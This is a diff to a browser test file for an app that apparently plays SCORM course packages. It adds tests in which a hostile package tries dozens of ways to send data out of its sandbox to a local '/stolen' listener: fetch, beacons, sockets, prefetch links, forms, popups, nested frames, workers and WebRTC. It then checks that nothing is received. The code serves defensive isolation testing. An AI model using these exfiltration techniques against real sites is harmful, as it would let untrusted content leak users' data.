@@ -6,6 +6,8 @@ import { scormManifest, zip } from '#tests/support/archives.ts';
 import { course, courseSaved, expect, signIn, test } from '#tests/support/browser-test.ts';
 import { playInstead } from '#tests/support/play-instead.ts';
 
+type Page = import('@playwright/test').Page;
+
 /** Tries what a package must not be able to do, and writes what came of each try on its page. */
 const attack = (app: string, elsewhere: string) => `
 const results = {};
@@ -69,6 +71,8 @@ const listenElsewhere = async () => {
     heard.push(String(request.url));
     answer.end();
   }).listen(0, '127.0.0.1');
+  // Looking up ahead and sockets ask for nothing, and say where the person is all the same.
+  web.on('connection', () => heard.push('TCP'));
   const stun = createSocket('udp4')
     .on('message', () => heard.push('UDP'))
     .bind(0, '127.0.0.1');
@@ -165,4 +169,171 @@ test('a package that tries to leave its place reaches nothing', async ({ page, b
   await expect(courseSaved(page)).toHaveText(/Received|Saved on this tablet|Sending/);
   const outbox = await page.evaluate(() => fetch('/api/auth/user').then((r) => r.status));
   expect(outbox).toBe(200);
+});
+
+/** Every way to the outside that a page has, tried from `self`, a window of its own. Nothing is waited for. */
+const everyWay = (web: string, udp: number) => `
+const leak = '${web}/stolen?' + name + '-';
+const attempt = (work) => { try { Promise.resolve(work()).catch(() => undefined); } catch {} };
+const add = (tag, more) => document.documentElement.append(Object.assign(document.createElement(tag), more));
+attempt(() => fetch(leak + 'fetch', { mode: 'no-cors' }));
+attempt(() => fetch(leak + 'keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }));
+attempt(() => new WebSocket(leak.replace('http', 'ws') + 'socket'));
+attempt(() => new EventSource(leak + 'events'));
+attempt(() => new WebTransport('https://127.0.0.1:${udp}/'));
+attempt(() => import(leak + 'module'));
+attempt(() => new FontFace('x', 'url(' + leak + 'font)').load());
+attempt(() => navigator.sendBeacon(leak + 'beacon', 'x'));
+if (self.document) {
+  attempt(() => { new Image().src = leak + 'image'; });
+  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest', 'prerender'])
+    attempt(() => add('link', { rel, href: leak + rel, as: 'script' }));
+  attempt(() => add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [leak + 'speculated'] }], prerender: [{ urls: [leak + 'prerendered'] }] }) }));
+  for (const tag of ['iframe', 'embed', 'video', 'audio', 'script']) attempt(() => add(tag, { src: leak + tag }));
+  attempt(() => add('object', { data: leak + 'object' }));
+  attempt(() => add('div', { style: 'background: url(' + leak + 'style)' }));
+  for (const target of ['_top', '_blank', 'hidden']) {
+    attempt(() => { const form = document.createElement('form'); Object.assign(form, { action: leak + 'form', method: 'post', target }); document.documentElement.append(form); form.submit(); });
+    attempt(() => { const a = document.createElement('a'); Object.assign(a, { href: leak + 'link', ping: leak + 'ping', target, rel: 'noopener' }); document.documentElement.append(a); a.click(); });
+  }
+  if (name !== 'page') attempt(() => { const a = document.createElement('a'); Object.assign(a, { href: leak + 'download', download: 'x' }); document.documentElement.append(a); a.click(); });
+  for (const one of ['', 'noopener']) attempt(() => open(leak + 'popup', '_blank', one));
+  attempt(() => { top.location = leak + 'top'; });
+  attempt(() => top.close());
+  if (name !== 'page') attempt(() => add('meta', { httpEquiv: 'refresh', content: '0;url=' + leak + 'refresh' }));
+}
+`;
+
+test('nor does it by frames in frames, workers, navigation or what is looked up ahead', async ({ page, browser, server }) => {
+  await signIn(page, server, 'aisha.khan@willowbrook.test');
+  const elsewhere = await listenElsewhere();
+  const ways = everyWay(elsewhere.url, elsewhere.stun);
+  await playInstead(
+    browser,
+    server,
+    await zip({
+      'imsmanifest.xml': scormManifest(),
+      'index.html': `<!doctype html><title>Before you lift</title><p id="results">trying</p><script>parent.API.LMSInitialize("")</script><script src="ways.js"></script>`,
+      'inner.html': '<!doctype html><script src="inner.js"></script>',
+      'inner.js': `const name = 'file';${ways}; setTimeout(() => { location = leak + 'own'; }, 200);`,
+      'ways.js': `
+const ways = ${JSON.stringify(ways)};
+const page = (name) => '<!doctype html><script>const name = "' + name + '";' + ways.replaceAll('</', '<\\/') + '; setTimeout(() => { location = leak + "own"; }, 200);</script>';
+const frame = (more, where = document) => { const f = Object.assign(where.createElement('iframe'), more); where.documentElement.append(f); return f; };
+const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
+(async () => {
+  (0, eval)('(() => { const name = "page";' + ways + '})()');
+  frame({ src: 'inner.html' });
+  frame({ srcdoc: page('srcdoc') });
+  frame({ src: 'data:text/html,' + encodeURIComponent(page('data')) });
+  frame({ src: blob(page('blob'), 'text/html') });
+  frame({ srcdoc: '<iframe srcdoc="' + page('nested').replaceAll('"', '&quot;') + '"></iframe>' });
+  frame({}).contentWindow.eval('(() => { const name = "blank";' + ways + '})()');
+  // Of the player, which is of the same origin, and in a frame of it.
+  // The player is of the same origin: its window, and one of its document.
+  frame({ srcdoc: page('in-the-player') }, parent.document);
+  for (const [name, window] of Object.entries({ player: parent, 'blank-of-the-player': frame({}, parent.document).contentWindow })) {
+    const leak = ${JSON.stringify(elsewhere.url)} + '/stolen?' + name + '-';
+    for (const attempt of [
+      () => window.fetch(leak + 'fetch', { mode: 'no-cors' }).catch(() => undefined),
+      () => window.navigator.sendBeacon(leak + 'beacon', 'x'),
+      () => { new window.Image().src = leak + 'image'; },
+      () => new window.WebSocket(leak.replace('http', 'ws') + 'socket'),
+      () => new window.EventSource(leak + 'events'),
+      () => window.open(leak + 'popup'),
+      () => frame({ src: leak + 'frame' }, window.document),
+      () => window.document.documentElement.append(Object.assign(window.document.createElement('link'), { rel: 'preconnect', href: leak + 'preconnect' })),
+    ]) try { attempt(); } catch {}
+  }
+  for (const make of [() => new Worker(blob('const name = "worker";' + ways)), () => new SharedWorker(blob('const name = "shared";' + ways))])
+    try { make(); } catch {}
+  await new Promise((done) => setTimeout(done, 2500));
+  document.getElementById('results').textContent = 'tried';
+})();
+`,
+    }),
+  );
+  await page.goto(server.url);
+  await course(page, 'Data protection').getByRole('button').first().click();
+  await expect(courseSaved(page)).toBeVisible();
+  const address = page.url();
+  await expect(page.frameLocator('iframe[data-shown]').frameLocator('iframe[title]').locator('#results')).toHaveText('tried');
+  // The frame of the player, last: it is gone then.
+  await page
+    .frames()
+    .find((frame) => frame.url().endsWith('/index.html'))
+    ?.evaluate((url) => {
+      const link = Object.assign(parent.document.createElement('a'), { href: `${url}/stolen?player-frame` });
+      parent.document.body.append(link);
+      link.click();
+    }, elsewhere.url);
+  await expect
+    .poll(() => page.frames().some((frame) => frame.parentFrame() === page.mainFrame() && frame.url().startsWith('chrome-error:')))
+    .toBe(true);
+  elsewhere.close();
+  expect(elsewhere.heard).toEqual([]);
+  expect(page.url()).toBe(address);
+  await expect(courseSaved(page)).toHaveText(/Received|Saved on this tablet|Sending/);
+});
+
+/** Whether a page still runs, said by itself to another page: after the end of any frame of it, its driver speaks with it no more. */
+const pulseOf = async (page: Page) => {
+  await page.addInitScript(() => {
+    if (window !== top) return;
+    const line = new BroadcastChannel('pulse');
+    setInterval(() => line.postMessage([...document.querySelectorAll('[data-state]')].map((state) => state.textContent).join()), 100);
+  });
+  const doctor = await page.context().newPage();
+  return async () => {
+    if (doctor.url() === 'about:blank') await doctor.goto(new URL('/early-taps.js', page.url()).href);
+    return doctor.evaluate(
+      () =>
+        new Promise<string>((done) => {
+          const line = new BroadcastChannel('pulse');
+          line.onmessage = ({ data }) => done(data as string);
+          setTimeout(() => done('no pulse'), 5000);
+        }),
+    );
+  };
+};
+const askForWebRtc = (from: string, stun: number) => `
+const peer = new (${from}.RTCPeerConnection)({ iceServers: [{ urls: 'stun:127.0.0.1:${stun}' }] });
+peer.createDataChannel('out');
+peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;
+
+test('a package that asks for WebRTC goes on without it, and one that insists ends itself and not the app', async ({ page, browser, server }) => {
+  const elsewhere = await listenElsewhere();
+  const pulse = await pulseOf(page);
+  await signIn(page, server, 'aisha.khan@willowbrook.test');
+  await playInstead(
+    browser,
+    server,
+    await zip({
+      'imsmanifest.xml': scormManifest(),
+      // As many do that only look what the browser can do.
+      'index.html': `<!doctype html><title>Before you lift</title><p id="results">trying</p><script>
+        if (window.RTCPeerConnection ?? window.webkitRTCPeerConnection) { ${askForWebRtc('window', elsewhere.stun)} }
+        setTimeout(() => { document.getElementById('results').textContent = 'goes on'; }, 1500);
+        window.insist = () => {
+          const srcdoc = '<script>' + ${JSON.stringify(askForWebRtc('window', elsewhere.stun))} + '<\\/script>';
+          document.body.append(Object.assign(document.createElement('iframe'), { srcdoc }));
+          return new Promise((done) => setTimeout(done, 3000));
+        };
+      </script>`,
+    }),
+  );
+  await page.goto(server.url);
+  await course(page, 'Data protection').getByRole('button').first().click();
+  const item = page.frameLocator('iframe[data-shown]').frameLocator('iframe[title]');
+  await expect(item.locator('#results')).toHaveText('goes on');
+  await expect(courseSaved(page)).toHaveText('Received');
+  // A browser that does not end its process says so by going on.
+  await page
+    .frames()
+    .find((frame) => frame.url().endsWith('/index.html'))
+    ?.evaluate(() => (window as unknown as { insist(): Promise<void> }).insist())
+    .catch((error) => expect(String(error)).toMatch(/crashed/i));
+  expect(await pulse()).toContain('Received');
+  elsewhere.close();
+  expect(elsewhere.heard).toEqual([]);
 });
